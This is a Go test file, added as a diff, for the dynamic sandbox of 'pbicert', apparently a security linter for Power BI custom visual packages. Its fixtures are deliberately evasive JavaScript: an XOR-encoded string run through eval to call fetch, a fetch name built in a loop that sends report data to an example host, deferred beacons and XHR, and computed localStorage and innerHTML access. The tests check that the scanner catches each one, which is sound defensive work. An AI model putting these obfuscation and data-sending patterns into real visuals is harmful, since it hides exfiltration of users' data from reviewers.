@@ -1,0 +1,223 @@
+package dynamic
+
+import (
+	"os"
+	"strconv"
+	"strings"
+	"testing"
+
+	"github.com/pbicert/pbicert/internal/gen"
+	"github.com/pbicert/pbicert/lint"
+	"github.com/pbicert/pbicert/pbiviz"
+	"github.com/pbicert/pbicert/result"
+	"github.com/pbicert/pbicert/rules"
+)
+
+// TestMain lets this test binary serve as the sandbox's child process.
+func TestMain(m *testing.M) {
+	MaybeChild()
+	os.Exit(m.Run())
+}
+
+// visual wraps an update body (and optional class members) in a visual
+// module that reports the rendering events, as generated packages do.
+func visual(members, update string) gen.Visual {
+	v := gen.Clean()
+	v.FillerBytes = 4 << 10
+	v.VisualModule = `class Visual {
+    constructor(options) {
+        this.target = options.element;
+        this.host = options.host;
+        this.events = options.host.eventService;
+        this.root = document.createElement("div");
+        this.target.appendChild(this.root);
+    }
+    update(options) {
+        this.events.renderingStarted(options);
+        const dataView = options.dataViews[0];
+` + update + `
+        this.events.renderingFinished(options);
+    }
+` + members + `
+}`
+	return v
+}
+
+// checked builds the package, runs the static pass and merges an
+// in-process run (the child process is tested on its own below).
+func checked(t *testing.T, v gen.Visual) (result.Result, *Report) {
+	t.Helper()
+	b, err := gen.BuildPackage(v, gen.ZipOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	pkg, err := pbiviz.ReadBytes(b, pbiviz.DefaultLimits())
+	if err != nil {
+		t.Fatal(err)
+	}
+	var rep *Report
+	opts := lint.Options{Dynamic: func(in *rules.Input, r *lint.Result) {
+		rep = Run(Input{JS: string(in.JS.Src), Capabilities: in.Manifest.Resource.Capabilities, GUID: r.Visual.GUID}, Limits{})
+		Merge(r, rep, in, nil)
+	}}
+	r := lint.CheckPackage("test.pbiviz", pkg, opts)
+	if r.Error != "" {
+		t.Fatal(r.Error)
+	}
+	if rep == nil {
+		t.Fatal("the dynamic hook did not run")
+	}
+	return r, rep
+}
+
+// observed returns the findings of a rule that carry a runtime field.
+func observed(r result.Result, rule string) []result.Finding {
+	var out []result.Finding
+	for _, f := range r.Findings {
+		if f.Rule == rule && f.Runtime != nil {
+			out = append(out, f)
+		}
+	}
+	return out
+}
+
+func requireAll(t *testing.T, rep *Report) {
+	t.Helper()
+	want := []string{PhaseLoad, PhaseConstructor, PhaseUpdate, PhaseResize, PhaseTimer, PhaseEvent}
+	if strings.Join(rep.Completed, ",") != strings.Join(want, ",") || rep.Error != "" {
+		t.Fatalf("completed %v, error %q; want every phase", rep.Completed, rep.Error)
+	}
+}
+
+// atLine returns the source text at a finding's offset.
+func at(r result.Result, src string, f result.Finding) string {
+	_ = r
+	end := f.Location.Offset + 12
+	if end > len(src) {
+		end = len(src)
+	}
+	return src[f.Location.Offset:end]
+}
+
+func TestCleanVisualCompletesWithNoObservation(t *testing.T) {
+	r, rep := checked(t, gen.Clean())
+	requireAll(t, rep)
+	if len(rep.Observations) != 0 {
+		t.Fatalf("observations on a clean visual: %+v", rep.Observations)
+	}
+	for _, f := range r.Findings {
+		if f.Runtime != nil {
+			t.Errorf("clean visual: finding with runtime: %+v", f)
+		}
+	}
+	if r.Dynamic == nil || r.Dynamic.RenderingEvents != "reported" {
+		t.Errorf("dynamic summary %+v: want rendering events reported", r.Dynamic)
+	}
+}
+
+func TestEvalOfDecodedPayload(t *testing.T) {
+	payload := `fetch("https://lic.example.org/v1/check?key=A1")`
+	var codes []string
+	for _, c := range []byte(payload) {
+		codes = append(codes, strconv.Itoa(int(c^23)))
+	}
+	v := visual("", `        const k = [`+strings.Join(codes, ",")+`];
+        let s = "";
+        for (let i = 0; i < k.length; i++) s += String.fromCharCode(k[i] ^ 23);
+        eval(s);`)
+	r, rep := checked(t, v)
+	requireAll(t, rep)
+	nets := observed(r, "NET001")
+	if len(nets) != 1 || nets[0].Runtime.Target != "https://lic.example.org/v1/check?key=A1" || !nets[0].Runtime.Observed {
+		t.Fatalf("NET001 observed: %+v", nets)
+	}
+	src := gen.BuildJS(v).JS
+	if got := at(r, src, nets[0]); !strings.HasPrefix(got, "eval(s)") {
+		t.Errorf("the request from eval'd code is reported at %q, want the eval call", got)
+	}
+	evals := observed(r, "DYN001")
+	if len(evals) != 1 || evals[0].Runtime.Target != payload || evals[0].Runtime.Observed {
+		t.Errorf("DYN001: want the static finding confirmed with the decoded code, got %+v", evals)
+	}
+}
+
+func TestNameAssembledInALoop(t *testing.T) {
+	r, rep := checked(t, visual("", `        let n = "";
+        for (const c of ["f", "e", "t", "c", "h"]) n += c;
+        window[n]("https://a.example.com/x?d=" + dataView.categorical.categories[0].values[0]);`))
+	requireAll(t, rep)
+	nets := observed(r, "NET001")
+	if len(nets) != 1 || nets[0].Runtime.Target != "https://a.example.com/x?d=Nordhafen zqk4a1" || !nets[0].Runtime.ReportData {
+		t.Fatalf("NET001: %+v", nets)
+	}
+	if nets[0].Severity != result.Error || !strings.Contains(nets[0].Message, "a.example.com") {
+		t.Errorf("report data must be an error naming the host: %+v", nets[0])
+	}
+}
+
+func TestWorkDeferredToATimerAndAPromise(t *testing.T) {
+	r, rep := checked(t, visual("", `        setTimeout(() => navigator.sendBeacon("https://t.example.com/b", "ok"), 30000);
+        Promise.resolve(1).then(() => {
+            const x = new XMLHttpRequest();
+            x.open("POST", "https://p.example.com/q");
+            x.send("v=1");
+        });`))
+	requireAll(t, rep)
+	b := observed(r, "NET005")
+	if len(b) != 1 || b[0].Runtime.Target != "https://t.example.com/b" || b[0].Runtime.Phase != PhaseTimer || b[0].Runtime.ReportData {
+		t.Fatalf("sendBeacon from a timer: %+v", b)
+	}
+	x := observed(r, "NET002")
+	if len(x) != 1 || x[0].Runtime.Target != "https://p.example.com/q" {
+		t.Fatalf("XHR from a promise callback: %+v", x)
+	}
+}
+
+func TestStorageAndMarkupThroughComputedNames(t *testing.T) {
+	r, rep := checked(t, visual("", `        const store = window[["local", "Storage"].join("")];
+        store.setItem("okv_seen", "1");
+        const sink = ["inner", "HTML"].join("");
+        this.root[sink] = "<b>" + dataView.categorical.categories[0].values[1] + "</b>";`))
+	requireAll(t, rep)
+	s := observed(r, "STO001")
+	if len(s) != 1 || s[0].Runtime.Target != "localStorage.setItem okv_seen" {
+		t.Fatalf("STO001: %+v", s)
+	}
+	d := observed(r, "DOM001")
+	if len(d) != 1 || d[0].Runtime.Target != "<b>Südtal zqk4a2</b>" {
+		t.Fatalf("DOM001: %+v", d)
+	}
+}
+
+func TestDeadCodeIsNeverObserved(t *testing.T) {
+	r, rep := checked(t, visual(`    never() { fetch("https://dead.example.com/"); localStorage.setItem("k", "v"); }`, ``))
+	requireAll(t, rep)
+	static := 0
+	for _, f := range r.Findings {
+		if f.Rule == "NET001" || f.Rule == "STO001" {
+			static++
+			if f.Runtime != nil {
+				t.Errorf("dead code claimed as observed: %+v", f)
+			}
+		}
+	}
+	if static != 2 {
+		t.Fatalf("want the two static findings in dead code, got %d", static)
+	}
+	if len(rep.Observations) != 0 {
+		t.Errorf("observations: %+v", rep.Observations)
+	}
+}
+
+func TestMissingRenderingEventsObserved(t *testing.T) {
+	v := gen.Clean()
+	v.VisualModule = `class Visual { constructor(o) { this.e = o.element; } update(o) { this.e.textContent = "x"; } }`
+	r, rep := checked(t, v)
+	requireAll(t, rep)
+	if r.Dynamic.RenderingEvents != "missing" {
+		t.Fatalf("rendering events: %q", r.Dynamic.RenderingEvents)
+	}
+	if len(observed(r, "REQ001")) == 0 {
+		t.Errorf("REQ001 not confirmed at run time: %+v", r.Findings)
+	}
+}
